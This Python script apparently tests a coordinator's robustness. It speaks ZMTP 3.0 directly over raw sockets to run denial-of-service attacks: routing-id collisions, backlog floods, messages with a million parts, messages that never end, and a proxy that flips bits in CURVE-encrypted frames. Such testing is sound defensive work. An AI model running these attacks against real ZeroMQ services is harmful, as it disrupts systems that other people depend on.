#!/usr/bin/env python3
"""Attacks by which a stranger could end a run, over raw sockets against a coordinator.

usage: attacks.py NAME ENDPOINT

ENDPOINT is tcp://HOST:PORT or ipc://PATH. Each attack implements ZMTP 3.0 itself (rfc.zeromq.org/spec/23), because
libzmq would not send such data. Prints `done NAME` after everything has been sent or the coordinator has cut the
connection.

Names, by target:

    routing-id, routing-id-hello, routing-id-late, routing-id-twice
        peers announce the ids that libzmq gives to the first connections of a process, then others connect
    backlog-hello, backlog-status, backlog-ping, backlog-reset
        more messages than a coordinator reads at once, from peers that hang up
    parts-status, parts-hello, parts-ping, parts-noise
        one message of a million parts
    unfinished-large, unfinished-empty, unfinished-small, unfinished-many
        parts of a message that never ends
    flip-up, flip-down, flip-heartbeat, flip-flags
        a bit of an encrypted message is flipped on the way, and the connection ends soon after. Prints `listening
        ENDPOINT` and is a proxy between a worker and the coordinator there until it is killed
"""
import os
import random
import socket
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True
from wire import (  # noqa: E402
    COMMAND, FIRST_ROUTING_ID, HELLO, LARGE, MORE, PING, STATUS_REQUEST, Peer, frame, header, heartbeat, message, quietly)
import wire  # noqa: E402


def hello():
    return message(wire.hello())


def ping_header():
    return wire.seal([header(PING, offset=1), b"x"])[0]


def announced(endpoint, first, count):
    ids = (b"\0" + struct.pack(">I", (first + number) & 0xFFFFFFFF) for number in range(count))
    return [peer for peer in (quietly(Peer, endpoint, identity) for identity in ids) if peer]


def plain(endpoint, count):
    return [peer for peer in (quietly(Peer, endpoint) for _ in range(count)) if peer]


def routing_id(endpoint, variant):
    peers = plain(endpoint, 3) if variant == "late" else []
    peers += announced(endpoint, FIRST_ROUTING_ID, 40 if variant == "late" else 12)
    if variant == "hello":
        for peer in peers:
            quietly(peer.send, hello())
    if variant == "twice":
        # libzmq sets the second peer with a name aside, and mistakes its next frame for its name.
        for number, peer in enumerate(announced(endpoint, FIRST_ROUTING_ID, 12)):
            name = b"\0" + struct.pack(">I", FIRST_ROUTING_ID + 12 + number)
            quietly(peer.send, frame(name, MORE) + frame(b"rest"))
            peers.append(peer)
    peers += plain(endpoint, 40)
    for peer in peers:
        quietly(peer.send, hello())
    time.sleep(0.3)
    for peer in peers:
        peer.close()


def backlog(endpoint, variant):
    message = {
        "hello": hello(),
        "status": frame(header(STATUS_REQUEST)),
        "ping": heartbeat() + frame(ping_header(), MORE) + frame(b"x"),
        "reset": hello(),
    }[variant]
    # The first peer keeps the coordinator busy: the second peer's messages are unread when it disconnects.
    peers = plain(endpoint, 2)
    if len(peers) < 2:
        return
    busy, quitter = peers
    quietly(busy.send, frame(header(STATUS_REQUEST), MORE) * 50_000 + frame(header(STATUS_REQUEST)))
    time.sleep(0.05)
    quietly(quitter.send, message * (1_500_000 // len(message)))
    time.sleep(0.2)
    quitter.close(reset=variant == "reset")
    # libzmq sends a heartbeat within a second.
    time.sleep(1.3)
    busy.close()


def parts(endpoint, variant):
    part = {
        "status": frame(header(STATUS_REQUEST), MORE),
        "hello": frame(header(HELLO), MORE),
        "ping": frame(ping_header(), MORE) + frame(b"x", MORE),
        "noise": frame(b"", MORE) + frame(os.urandom(31), MORE),
    }[variant]
    for peer in plain(endpoint, 1):
        if quietly(peer.send, part * (34_000_000 // len(part)) + frame(header(STATUS_REQUEST))) is None:
            time.sleep(0.1)
        peer.close()


def unfinished(endpoint, variant):
    begin = time.monotonic()
    if variant == "large":
        part = frame(bytes(1 << 20), MORE)
        for peer in plain(endpoint, 1):
            for _ in range(2_500):
                if not sends(peer, part):
                    break
            peer.close()
    elif variant == "empty":
        for peer in plain(endpoint, 1):
            for _ in range(100):
                if not sends(peer, frame(b"", MORE) * 500_000):
                    break
            peer.close()
    elif variant == "small":
        # Each part is a TCP segment of its own, for which the receiver may keep a whole buffer.
        for peer in plain(endpoint, 1):
            while time.monotonic() < begin + 5 and sends(peer, frame(bytes(40), MORE)):
                pass
            peer.close()
    else:
        # No connection leaves much unread, but all together do.
        peers = plain(endpoint, 200)
        for peer in peers:
            sends(peer, frame(b"", MORE) * 50_000)
        time.sleep(1)
        for peer in peers:
            peer.close()


class Pipe(threading.Thread):
    """One direction of a connection with CURVE, frame by frame; may flip a bit of one message."""

    GREETING = 64
    # A PING, encrypted (rfc.zeromq.org/spec/26): command name, nonce, authenticator, flags and the 7 bytes of the command.
    HEARTBEAT = 8 + 8 + 16 + 1 + 7

    def __init__(self, source, target, wanted, ended, flips_flags):
        super().__init__(daemon=True)
        self.source, self.target, self.wanted, self.ended = source, target, wanted, ended
        self.flips_flags = flips_flags

    def read(self, count):
        data = b""
        while len(data) < count:
            piece = self.source.recv(count - len(data))
            if not piece:
                raise ConnectionError
            data += piece
        return data

    def run(self):
        try:
            # Each end waits for the first part of the other end's greeting before it sends the rest.
            for _ in range(self.GREETING):
                self.target.sendall(self.read(1))
            messages = 0
            while True:
                head = self.read(2)
                if head[0] & LARGE:
                    head += self.read(7)
                size = struct.unpack(">Q", head[1:])[0] if head[0] & LARGE else head[1]
                body = bytearray(self.read(size))
                if body.startswith(b"\x07MESSAGE"):
                    messages += 1
                    if self.wanted and self.wanted(messages, size):
                        if self.flips_flags:
                            head = bytes([head[0] ^ COMMAND]) + head[1:]
                        else:
                            body[random.randrange(16, size)] ^= 1 << random.randrange(8)
                        self.target.sendall(head + bytes(body))
                        self.ended()
                        return
                self.target.sendall(head + bytes(body))
        except OSError:
            for end in (self.source, self.target):
                quietly(end.shutdown, socket.SHUT_RDWR)


def flip(endpoint, variant):
    """Damages the third message of the first connection; later connections are unchanged."""
    host, port = endpoint.removeprefix("tcp://").rsplit(":", 1)
    server = socket.create_server(("127.0.0.1", 0))
    print(f"listening tcp://127.0.0.1:{server.getsockname()[1]}", flush=True)
    is_first = True
    while True:
        front = server.accept()[0]
        back = quietly(socket.create_connection, (host, int(port)))
        if back is None:
            front.close()
            continue
        for end in (front, back):
            end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

        def ended(ends=(front, back)):
            time.sleep(0.3)
            for end in ends:
                quietly(end.shutdown, socket.SHUT_RDWR)

        def wanted(messages, size):
            return size == Pipe.HEARTBEAT if variant == "heartbeat" else messages == 3

        flags = variant == "flags"
        Pipe(front, back, wanted if is_first and variant != "down" else None, ended, flags).start()
        Pipe(back, front, wanted if is_first and variant == "down" else None, ended, flags).start()
        is_first = False


def sends(peer, data):
    try:
        peer.send(data)
        return True
    except OSError:
        return False


def main():
    name, endpoint = sys.argv[1:3]
    kind, variant = name, ""
    attacks = {"routing-id": routing_id, "backlog": backlog, "parts": parts, "unfinished": unfinished, "flip": flip}
    for known in attacks:
        if name.startswith(known):
            kind, variant = known, name.removeprefix(known).removeprefix("-")
    if kind not in attacks:
        sys.exit(f"no attack is called {name}")
    attacks[kind](endpoint, variant)
    print(f"done {name}", flush=True)


main()
